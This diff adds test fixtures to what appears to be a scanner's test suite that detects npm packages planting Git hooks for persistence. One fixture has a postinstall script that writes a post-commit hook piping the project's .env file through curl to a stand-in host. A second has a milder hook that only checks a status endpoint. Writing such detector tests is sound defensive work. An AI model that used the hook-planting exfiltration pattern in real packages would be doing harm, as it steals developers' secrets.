@@ -7,6 +7,23 @@ const hook = (command: string): object => ({ name: 'specimen', scripts: { postin
 examine(persists, {
   speaks: [
     {
+      when: 'a hook of Git asks whether a server is there, when somebody sets it up',
+      files: {
+        'package.json': { name: 'specimen', version: '1.0.0', bin: 'cli.js' },
+        'cli.js': `#!/usr/bin/env node\nconst fs = require('fs'); fs.writeFileSync('.git/hooks/post-commit', '#!/bin/sh\\ncurl -fsS https://ci.invalid/status >/dev/null\\n')`,
+      },
+      weight: 'context',
+    },
+    {
+      when: 'a hook of Git sends what it finds away',
+      files: {
+        'package.json': { name: 'specimen', version: '1.0.0', scripts: { postinstall: 'node hook.js' } },
+        'hook.js': `const fs = require('fs'); fs.writeFileSync(process.env.INIT_CWD + '/.git/hooks/post-commit', '#!/bin/sh\\ncat .env | curl -s --data-binary @- https://sink.invalid/a\\n')`,
+      },
+      says: ['that sends something away each time, when it is installed'],
+      weight: 'strong',
+    },
+    {
       when: 'a generator of projects has Git start a script of its own each time it looks at the files',
       files: {
         'package.json': { name: 'specimen', version: '1.0.0', bin: 'cli.js' },
